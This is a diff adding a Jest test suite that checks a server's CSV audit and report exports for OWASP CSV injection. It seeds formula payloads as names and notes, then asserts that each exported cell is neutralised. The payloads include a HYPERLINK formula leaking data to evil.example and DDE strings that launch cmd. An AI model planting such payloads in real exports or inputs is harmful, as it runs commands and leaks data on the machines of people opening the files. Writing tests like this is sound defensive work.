@@ -1,0 +1,131 @@
+import { Client } from 'pg';
+import { Api, TableFixture, unique } from '../support/api';
+import { looksLikeFormula, parseCsv } from '../support/csv';
+import { routeKeys } from '../support/routes';
+import { TestApp } from '../support/test-app';
+import { IDENTITY, walkTo } from '../support/situations';
+import { openWorld } from '../support/world';
+
+/**
+ * OWASP CSV injection on every CSV the server writes (api.md): text that reaches a file, and
+ * names of agencies and tables built to be formulas, never leave a cell a spreadsheet would run.
+ */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak=1","Click for details")',
+  '+1+cmd|" /C calc"!A0',
+  '-2+3 review',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '\tx =1+2',
+  '\rx =1+2',
+  '\u200B=1+2 hidden behind a zero-width space',
+  '＝1+2 full width',
+  'plan;=1+2 after a semicolon',
+];
+
+/** Every CSV route of the application: a new one fails the first test until it is attacked here too. */
+const CSV_ROUTES = ['GET /api/v1/tables/:tableId/audit/export.csv', 'GET /api/v1/tables/:tableId/reports/rtd-export.csv'];
+
+describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
+  let t: TestApp;
+  let api: Api;
+  let f: TableFixture;
+  let owner: Client;
+  let close: () => Promise<void>;
+  let situationId: string;
+
+  /** An identity read with a stated purpose (code OTHER, the note as given). */
+  async function read(token: string, purpose: string): Promise<number> {
+    const res = await api.as(token).get(`/situations/${situationId}/identity?purposeCode=OTHER&purpose=${encodeURIComponent(purpose)}`);
+    return res.status;
+  }
+
+  /** All cells of a CSV answer, header included, as a spreadsheet reads them. */
+  const cellsOf = (csv: string) => parseCsv(csv).flat();
+
+  beforeAll(async () => {
+    ({ t, api, f, owner, close } = await openWorld());
+    const admin = api.as(f.admin.token);
+    // agencies and tables named as formulas, seated at the table, one of them leading a situation
+    const evil: string[] = [];
+    for (const [i, name] of FORMULAS.entries()) {
+      const agency = await admin.post('/agencies', { name: `${name} ${unique('a')}`, sector: i % 2 ? 'HOUSING' : 'EDUCATION' });
+      expect([201, 400]).toContain(agency.status);
+      if (agency.status === 201) {
+        evil.push(agency.body.id);
+        await admin.post(`/tables/${f.tableId}/agencies`, { agencyId: agency.body.id }).expect(201);
+      }
+      const table = await admin.post('/tables', { name: `${name} ${unique('t')}`, timeZone: 'America/Vancouver' });
+      expect([201, 400]).toContain(table.status);
+    }
+    expect(evil.length).toBeGreaterThanOrEqual(6);
+    await admin.patch(`/tables/${f.tableId}`, { name: `${FORMULAS[0]} ${unique('table')}` }).expect(200);
+
+    situationId = await walkTo(api, f, 'ASSIGNED');
+    await api.as(f.reps.police.token).put(`/situations/${situationId}/identity`, IDENTITY).expect(204);
+    // purposes that reach the audit trail: refused reads (no standing) keep their purpose too
+    for (const purpose of FORMULAS) expect(await read(f.reps.school.token, purpose)).toBe(403);
+    expect(await read(f.reps.housing.token, '+1 call back to plan the visit')).toBe(200);
+
+    // a situation led by an agency named as a formula, closed before it was created: days open -3
+    const led = await walkTo(api, f, 'ACCEPTED');
+    await api.as(f.coordinator.token).post(`/situations/${led}/assignment`, { leadAgencyId: evil[1], assistingAgencyIds: [evil[0]] }).expect(200);
+    // notes as formulas: a status update and the closure note (neither belongs in a CSV, and neither may run there)
+    await api.as(f.coordinator.token).post(`/situations/${led}/updates`, { note: FORMULAS[0] }).expect(201);
+    await api.as(f.coordinator.token).post(`/situations/${led}/closure`, { conclusion: 'CONNECTED_TO_SERVICES', consentStatus: 'OBTAINED', note: FORMULAS[3] }).expect(200);
+    await owner.query(`UPDATE situations SET closed_at = created_at - interval '3 days' WHERE id = $1`, [led]);
+  });
+  afterAll(() => close());
+
+  it('attacks every CSV route the application serves', () => {
+    expect(routeKeys(t.app).filter((k) => /\.csv$/.test(k)).sort()).toEqual([...CSV_ROUTES].sort());
+  });
+
+  it('audit export: formula purposes come out as text, and no cell starts a formula', async () => {
+    for (const lang of ['en', 'fr']) {
+      const res = await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv`, { 'accept-language': lang }).expect(200);
+      const rows = parseCsv(res.text);
+      const purposes = rows.slice(1).map((r) => r[rows[0].indexOf('purpose')]);
+      // the purposes as stored (trimmed), each behind one quote where it would run
+      for (const p of FORMULAS.map((x) => x.trim())) {
+        const cell = purposes.find((c) => c.replace(/^'/, '') === p);
+        expect(cell).toBeDefined();
+        if (looksLikeFormula(p)) expect(cell).toBe(`'${p}`);
+        else expect(cell).toBe(p);
+      }
+      expect(purposes).toContain("'+1 call back to plan the visit");
+      const offenders = cellsOf(res.text).filter(looksLikeFormula);
+      expect(offenders).toEqual([]);
+      expect(res.text).not.toContain(IDENTITY.familyName);
+    }
+    // a filter narrows the file, and it is still neutralised
+    const denied = await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv?outcome=DENIED&situationId=${situationId}`).expect(200);
+    expect(parseCsv(denied.text).length - 1).toBe(FORMULAS.length);
+    expect(cellsOf(denied.text).filter(looksLikeFormula)).toEqual([]);
+  });
+
+  it('RTD export: a negative number and every other cell come out as text', async () => {
+    for (const lang of ['en', 'fr']) {
+      const res = await api.as(f.coordinator.token).get(`/tables/${f.tableId}/reports/rtd-export.csv`, { 'accept-language': lang }).expect(200);
+      const rows = parseCsv(res.text);
+      expect(rows.length).toBeGreaterThanOrEqual(3);
+      const daysOpen = rows.slice(1).map((r) => r[r.length - 1]);
+      expect(daysOpen).toContain("'-3");
+      expect(cellsOf(res.text).filter(looksLikeFormula)).toEqual([]);
+      // a list of codes holds semicolons: quoted, so no spreadsheet splits it into new cells
+      expect(res.text).toMatch(/"[A-Z_]+;[A-Z_;]+"/);
+    }
+  });
+
+  it('the names of agencies and tables reach no CSV unneutralised', async () => {
+    const files = [
+      (await api.as(f.privacy.token).get(`/tables/${f.tableId}/audit/export.csv`).expect(200)).text,
+      (await api.as(f.privacy.token).get(`/tables/${f.tableId}/reports/rtd-export.csv`).expect(200)).text,
+    ];
+    for (const text of files) {
+      for (const cell of cellsOf(text)) {
+        expect(looksLikeFormula(cell)).toBe(false);
+        for (const name of FORMULAS) if (looksLikeFormula(name.trim())) expect(cell.startsWith(name.trim())).toBe(false);
+      }
+    }
+  });
+});
